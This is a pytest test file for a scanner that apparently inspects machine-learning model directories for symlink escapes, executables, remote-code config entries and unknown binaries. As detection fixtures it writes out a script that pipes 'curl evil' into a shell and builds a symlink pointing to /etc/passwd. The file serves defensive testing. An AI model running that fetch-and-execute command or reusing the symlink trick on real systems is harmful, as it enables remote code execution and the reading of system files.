"""Directory-level checks: links, special files, executables, unknown binaries, remote code."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from onnxguard.errors import ScanTargetError
from onnxguard.scan import ScanConfig, Severity, scan_path
from unit.scan import attack_samples as samples
from unit.scan._helpers import finding, rules_of


def test_symlink_escaping_the_model_directory_is_not_followed(tmp_path: Path) -> None:
    samples.make_symlink_escape(tmp_path / "m")
    report = scan_path(tmp_path / "m")
    hit = finding(report, "FILE001")
    assert hit.file == "model.safetensors" and "/etc/passwd" in hit.message
    assert report.files == ()  # /etc/passwd was never opened


def test_symlink_inside_and_dangling(tmp_path: Path) -> None:
    d = tmp_path / "m"
    (d / "sub").mkdir(parents=True)
    (d / "sub" / "config.json").write_text("{}")
    (d / "config.json").symlink_to("sub/config.json")
    (d / "gone.bin").symlink_to("missing.bin")
    (d / "subdir-link").symlink_to("sub")
    report = scan_path(d)
    assert {f.file for f in report.findings if f.rule_id == "FILE002"} == {
        "config.json",
        "subdir-link",
    }
    assert finding(report, "FILE003").severity is Severity.MEDIUM
    assert [f.file for f in report.files] == ["sub/config.json"]


def test_hugging_face_cache_layout_with_allowed_symlink_root(tmp_path: Path) -> None:
    blobs = tmp_path / "cache" / "blobs"
    snapshot = tmp_path / "cache" / "snapshots" / "abc123"
    blobs.mkdir(parents=True)
    snapshot.mkdir(parents=True)
    (blobs / "1f0e").write_bytes(samples.payload_pickle())
    (snapshot / "pytorch_model.bin").symlink_to("../../blobs/1f0e")
    assert "FILE001" in rules_of(scan_path(snapshot))
    report = scan_path(snapshot, ScanConfig(allowed_symlink_roots=(blobs,)))
    assert finding(report, "PKL001").file == "pytorch_model.bin"  # content scanned via the link


def test_fifo_is_reported_and_never_opened(tmp_path: Path) -> None:
    d = tmp_path / "m"
    d.mkdir()
    os.mkfifo(d / "model.safetensors")
    report = scan_path(d)  # opening a FIFO would block forever
    assert "FIFO" in finding(report, "FILE004").message


def test_native_library_in_model_directory(tmp_path: Path) -> None:
    samples.make_elf_library(tmp_path / "m")
    assert finding(scan_path(tmp_path / "m"), "FILE005").file == "libcustom_ops.so"


def test_compiled_python_is_executable_code(tmp_path: Path) -> None:
    import importlib.util

    d = tmp_path / "m"
    d.mkdir()
    (d / "cache.bin").write_bytes(importlib.util.MAGIC_NUMBER + b"\x00" * 12 + b"\xe3" * 32)
    assert "FILE005" in rules_of(scan_path(d))


def test_unknown_binary_is_reported_as_unscanned(tmp_path: Path) -> None:
    samples.make_unknown_binary(tmp_path / "m")
    report = scan_path(tmp_path / "m")
    assert [u.file for u in report.unscanned] == ["weights.dat"]
    assert "unknown binary" in report.unscanned[0].reason
    assert report.failed("critical")


def test_auto_map_remote_code_and_python_file(tmp_path: Path) -> None:
    report = scan_path(samples.make_auto_map_remote_code(tmp_path / "m"))
    assert "modeling_evil.EvilModel" in finding(report, "CFG001").message
    assert finding(report, "CFG002").file == "modeling_evil.py"


def test_tokenizer_auto_map_and_custom_pipelines(tmp_path: Path) -> None:
    d = tmp_path / "m"
    d.mkdir()
    (d / "tokenizer_config.json").write_text(
        json.dumps({"auto_map": {"AutoTokenizer": ["tok.EvilTokenizer", None]}})
    )
    (d / "config.json").write_text(
        json.dumps({"custom_pipelines": {"evil": {"impl": "pipe.EvilPipeline"}}})
    )
    report = scan_path(d)
    assert finding(report, "CFG001").file == "tokenizer_config.json"
    assert "pipe.EvilPipeline" in finding(report, "CFG003").message


def test_shebang_script_without_extension(tmp_path: Path) -> None:
    d = tmp_path / "m"
    d.mkdir()
    (d / "setup").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert "CFG002" in rules_of(scan_path(d))


def test_empty_files_and_text_are_clean(tmp_path: Path) -> None:
    d = tmp_path / "m"
    d.mkdir()
    (d / ".gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
    (d / "README.md").write_text("# model\n\nNothing to see.\n")
    (d / "empty.txt").write_bytes(b"")
    report = scan_path(d)
    assert report.findings == () and report.unscanned == ()
    assert report.files_scanned == 3


def test_missing_path_raises_a_usage_error(tmp_path: Path) -> None:
    with pytest.raises(ScanTargetError) as info:
        scan_path(tmp_path / "nope")
    assert info.value.exit_code == 2 and info.value.hint
    assert "nope" in info.value.message


def test_too_many_files_is_refused(tmp_path: Path) -> None:
    d = tmp_path / "m"
    d.mkdir()
    for i in range(5):
        (d / f"{i}.txt").write_text("x")
    with pytest.raises(ScanTargetError):
        scan_path(d, ScanConfig(max_files=3))


def test_config_rejects_a_bad_threshold() -> None:
    with pytest.raises(ValueError, match="unknown severity"):
        ScanConfig(fail_on="severe")
    with pytest.raises(ValueError, match="non-negative"):
        ScanConfig(max_loop_trip_count=-1)


def test_a_scanner_bug_fails_closed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from onnxguard.scan import safetensors_check

    def broken(*_args: object, **_kwargs: object) -> int:
        raise RuntimeError("boom")

    monkeypatch.setattr(safetensors_check, "scan_safetensors", broken)
    d = tmp_path / "m"
    samples._write(d, "model.safetensors", samples.safetensors_bytes({}, b""))
    report = scan_path(d)
    assert report.unscanned and "scanner error (RuntimeError: boom)" in report.unscanned[0].reason
    assert report.failed("critical")


def _pb_field(number: int, payload: bytes) -> bytes:
    """A length-delimited protobuf field (short lengths only)."""
    assert len(payload) < 128
    return bytes([number << 3 | 2, len(payload)]) + payload


def test_sentencepiece_tokenizer_model_is_recognized(tmp_path: Path) -> None:
    """XLM-RoBERTa, ALBERT and DeBERTa-v2 repositories ship a SentencePiece protobuf."""
    import struct

    def piece(text: str, score: float, kind: int) -> bytes:
        body = _pb_field(1, text.encode()) + b"\x15" + struct.pack("<f", score)
        return _pb_field(1, body + bytes([0x18, kind]))

    model = b"".join(piece(p, -i, 1) for i, p in enumerate(["<unk>", "▁the", "▁a", "s"]))
    model += _pb_field(2, b"\x18\x01") + _pb_field(3, _pb_field(1, b"nmt_nfkc"))
    d = tmp_path / "m"
    d.mkdir()
    (d / "sentencepiece.bpe.model").write_bytes(model)
    (d / "other.bin").write_bytes(model + b"\x7f\xff")  # field 15, wire type 7: not spm
    report = scan_path(d)
    assert report.kind_of("sentencepiece.bpe.model") == "sentencepiece"
    assert report.findings == ()
    assert [u.file for u in report.unscanned] == ["other.bin"]
